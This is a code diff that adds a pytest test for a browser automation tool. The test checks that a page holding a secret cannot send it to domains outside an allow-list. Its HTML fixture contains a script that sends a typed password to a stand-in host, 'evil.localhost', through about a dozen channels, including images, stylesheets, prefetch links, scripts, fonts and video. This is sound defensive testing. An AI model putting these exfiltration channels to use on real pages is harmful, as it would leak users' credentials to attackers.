@@ -8,6 +8,7 @@ from contextlib import suppress
 import pytest
 from playwright.async_api import Keyboard
 
+from tests.tools.conftest import Context
 from tests.tools.gui.conftest import SECRETS, Person, Site, Surfer
 from tools import Browser
 from tools.gui.safety import Limits
@@ -145,6 +146,54 @@ def test_a_screenshot_is_black_where_a_secret_stands(surf: Surfer, site: Site) -
     surf("click", target="Show")
     assert all(_black(surf, place) for place in places)
     assert not _black(surf, (40, 270, 200, 290))
+
+
+WAYS = """<label>Password <input id=p></label><button id=b>Save</button><a href="{next}">Next</a>
+  <p id=out></p><script>b.onclick = async () => {{
+    const add = (tag, more) =>
+      document.head.append(Object.assign(document.createElement(tag), more));
+    const to = '{other}', said = '?' + encodeURIComponent(p.value);
+    new Image().src = to + 'image' + said;
+    add('link', {{rel: 'stylesheet', href: to + 'style' + said}});
+    add('link', {{rel: 'prefetch', href: to + 'prefetch' + said}});
+    add('link', {{rel: 'manifest', href: to + 'manifest' + said}});
+    add('script', {{src: to + 'script' + said}});
+    add('script', {{type: 'module', src: to + 'module' + said}});
+    document.body.style.backgroundImage = `url(${{to}}background${{said}})`;
+    document.fonts.add(new FontFace('f', `url(${{to}}font${{said}})`));
+    document.fonts.load('9px f');
+    add('video', {{src: to + 'video' + said}});
+    new Image().src = '/own.png';
+    await new Promise(done => setTimeout(done, 300)); out.textContent += ' Saved'; }}</script>"""
+
+
+@pytest.mark.parametrize("name", ["", "sent_by_script.html"])
+def test_a_page_that_has_a_secret_gets_nothing_from_beyond_the_allowed_domains(
+    site: Site, context: Context, name: str
+) -> None:
+    other = site.url(host="evil.localhost")
+    after = site.put(f"<p>Welcome<img src='{other}after.png'>")
+    page = site.url(name) if name else site.put(WAYS.format(other=other, next=after))
+    with Browser(
+        ("127.0.0.1",), secrets=SECRETS, approve=lambda _: True, pictures=False
+    ) as browser:
+        surf = Surfer(browser, context)
+        surf.open(page)
+        surf("type", target="Name" if name else "Password", text="Ada")
+        surf("click", target="Save")
+        before = {asked for asked in site.asked if asked.startswith("evil")}
+        assert any("/image?Ada" in asked for asked in before)  # others keep their pictures there
+        surf("type", target="Name" if name else "Password", text="<secret:CARD>")
+        said = surf("click", target="Save")
+        assert f"not loaded: {other.rstrip('/')} (the domain evil.localhost is not among" in said
+        if not name:
+            surf("wait_for", until={"text": "Saved Saved"})
+            assert site.asked[-1].endswith("/own.png")
+        assert {asked for asked in site.asked if asked.startswith("evil")} == before
+        if not name:
+            surf("click", target="Next", expect={"text": "Welcome"})
+            assert site.asked[-1].endswith("/after.png")
+    assert not any(SECRETS["CARD"] in asked for asked in site.asked)
 
 
 def test_no_address_shows_a_secret(surf: Surfer, site: Site) -> None:
